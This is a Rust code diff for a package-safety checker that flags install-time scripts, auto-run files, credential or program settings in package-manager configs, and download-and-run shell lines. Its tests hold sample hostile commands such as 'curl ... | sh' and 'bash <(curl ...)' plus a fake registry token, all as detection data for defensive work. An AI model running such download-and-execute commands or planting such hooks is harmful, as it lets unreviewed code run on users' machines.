@@ -12,6 +12,24 @@ const STARTED_BY_ITSELF: &[&str] = &[
     "preprepare",
     "prepare",
     "postprepare",
+    "prepublish",
+];
+
+/// Files, by their last segment, that a package manager runs by itself.
+const RUN_BY_ITSELF: &[&str] = &["binding.gyp", ".pnpmfile.cjs", ".yarnrc.cjs"];
+
+/// What a package manager's settings hold that lets somebody in, or runs something: in lower case.
+const SETTINGS: &[(&str, &str)] = &[
+    ("_auth", "holds a credential for a registry"),
+    ("_password", "holds a credential for a registry"),
+    ("npmauthtoken", "holds a credential for a registry"),
+    ("npmauthident", "holds a credential for a registry"),
+    ("yarnpath", "names a program that the package manager runs"),
+    ("plugins:", "names a program that the package manager runs"),
+    (
+        "script-shell",
+        "names a program that the package manager runs",
+    ),
 ];
 
 /// Members of `package.json` that name packages.
@@ -64,6 +82,9 @@ const KNOWN: &[&str] = &[
     "webpack",
 ];
 
+/// Bytes of a line that goes on over several, from which on it is taken as it is.
+const LOGICAL_LINE_BYTES_MAX: usize = 4_096;
+
 /// Shorter names are too near to others by chance.
 const TYPO_CHARS_MIN: usize = 5;
 
@@ -80,16 +101,65 @@ pub(super) fn found(name: &str, content: &str) -> Vec<String> {
     if base == ".npmrc" || base == ".yarnrc" || base == ".yarnrc.yml" {
         found.push("changes where packages come from: leave it out".to_owned());
     }
-    if is_run(base) {
-        let harmful = |(_, line): &(usize, &str)| runs_a_download(line);
-        if let Some((index, _)) = content.lines().enumerate().find(harmful) {
-            found.push(format!(
-                "downloads something at line {} and runs it unread: leave that out",
-                index + 1
-            ));
-        }
+    if is_run(base)
+        && let Some(line) = downloads(content).next()
+    {
+        found.push(format!(
+            "downloads something at line {line} and runs it unread: leave that out"
+        ));
     }
     found
+}
+
+/// What must not leave in the file `name`, whoever approved it: each with its line, from 1 on.
+pub(super) fn forbidden(name: &str, content: &str) -> Vec<(usize, String)> {
+    let base = name.rsplit('/').next().unwrap_or(name);
+    let mut found = Vec::new();
+    if RUN_BY_ITSELF.contains(&base) {
+        let rule = "is run by a package manager on installation";
+        found.push((1, rule.to_owned()));
+    }
+    if base == "package.json" {
+        // Package managers skip the mark.
+        let text = content.trim_start_matches('\u{feff}');
+        let manifest: Value = serde_json::from_str(text).unwrap_or_default();
+        let scripts = manifest["scripts"].as_object().into_iter().flatten();
+        for (script, _) in scripts.filter(|(script, _)| STARTED_BY_ITSELF.contains(&&***script)) {
+            let key = format!("\"{script}\"");
+            let at = content.lines().position(|line| line.contains(&key));
+            let rule = format!("has a script `{script}`, which runs by itself on installation");
+            found.push((1 + at.unwrap_or_default(), rule));
+        }
+    }
+    if matches!(base, ".npmrc" | ".yarnrc" | ".yarnrc.yml") {
+        for (index, line) in content.lines().enumerate() {
+            let line = line.to_lowercase();
+            let known = SETTINGS.iter().find(|(word, _)| line.contains(word));
+            found.extend(known.map(|(_, rule)| (index + 1, (*rule).to_owned())));
+        }
+    }
+    if is_run(base) {
+        let rule = "downloads something and runs it unread";
+        found.extend(downloads(content).map(|line| (line, rule.to_owned())));
+    }
+    found
+}
+
+/// Lines, from 1 on, that download something and run it. A line that goes on is one with the next.
+fn downloads(content: &str) -> impl Iterator<Item = usize> {
+    let mut whole = String::new();
+    content
+        .lines()
+        .enumerate()
+        .filter_map(move |(index, line)| {
+            let goes_on = line.trim_end().strip_suffix('\\');
+            whole.push_str(goes_on.unwrap_or(line));
+            if goes_on.is_some() && whole.len() < LOGICAL_LINE_BYTES_MAX {
+                return None;
+            }
+            let line = std::mem::take(&mut whole);
+            runs_a_download(&line).then_some(index + 1)
+        })
 }
 
 /// Whether somebody, or a build, runs what stands in the file.
@@ -239,10 +309,53 @@ mod tests {
                 "line 1 and runs it unread",
             ),
             ("run.sh", "bash <(curl https://x.example)", "line 1"),
+            ("run.sh", "curl https://x.example \\\n  | sh\n", "line 2"),
             (".npmrc", "registry=https://x.example", "packages come from"),
         ] {
             let found = found(name, content).join("; ");
             assert!(found.contains(problem), "{name}: {found}");
+        }
+    }
+
+    #[test]
+    fn what_must_not_leave_is_found_with_its_line() {
+        for (name, content, line, rule) in [
+            (
+                "package.json",
+                "{\n \"scripts\": {\n  \"prepare\": \"husky\"}}",
+                3,
+                "script `prepare`",
+            ),
+            (
+                "a/package.json",
+                "\u{feff}{\"scripts\": {\"postinstall\": \"x\"}}",
+                1,
+                "script `postinstall`",
+            ),
+            ("binding.gyp", "{}", 1, "on installation"),
+            (
+                ".npmrc",
+                "a=b\n//registry.x.example/:_authToken=abc",
+                2,
+                "a credential",
+            ),
+            (".yarnrc.yml", "yarnPath: ./x.cjs", 1, "a program"),
+            ("x.sh", "\ncurl x | sh", 2, "runs it unread"),
+        ] {
+            let found = forbidden(name, content);
+            assert_eq!(found.len(), 1, "{name}: {found:?}");
+            assert_eq!(found[0].0, line, "{name}");
+            assert!(found[0].1.contains(rule), "{name}: {found:?}");
+        }
+        for (name, content) in [
+            (".npmrc", "engine-strict=true"),
+            (
+                "package.json",
+                r#"{"scripts": {"test": "x"}, "dependencies": {"lodahs": "1"}}"#,
+            ),
+            ("README.md", "curl x | sh"),
+        ] {
+            assert_eq!(forbidden(name, content), [], "{name}");
         }
     }
 
